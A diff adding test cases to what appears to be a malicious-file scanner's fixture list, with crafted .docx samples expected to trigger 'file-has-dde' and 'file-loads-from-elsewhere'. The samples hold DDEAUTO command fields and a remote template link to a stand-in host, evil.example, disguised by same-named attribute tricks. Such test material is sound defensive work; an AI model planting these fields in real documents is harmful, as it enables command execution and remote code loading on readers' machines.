@@ -183,6 +183,22 @@ export const hostileFiles: [string, string, Buffer, string][] = [
     'file-has-dde',
   ],
   [
+    'a docx with a simple DDE field beside an attribute of the same name',
+    'a.docx',
+    withBody('<x:fldSimple xmlns:instr="PAGE" x:instr="DDEAUTO cmd"><x:r/></x:fldSimple>'),
+    'file-has-dde',
+  ],
+  [
+    'a docx with a template from elsewhere beside attributes of the same names',
+    'a.docx',
+    makeZip({
+      ...docx,
+      'word/_rels/document.xml.rels':
+        '<Relationships><Relationship Id="rId9" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External" xmlns:TargetMode="Internal" xmlns:Type="http://x/relationships/image"/></Relationships>',
+    }),
+    'file-loads-from-elsewhere',
+  ],
+  [
     'a docx with a DDE field in a part of another name',
     'a.docx',
     makeZip({ ...docx, 'word/more.dat': '<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>' }),
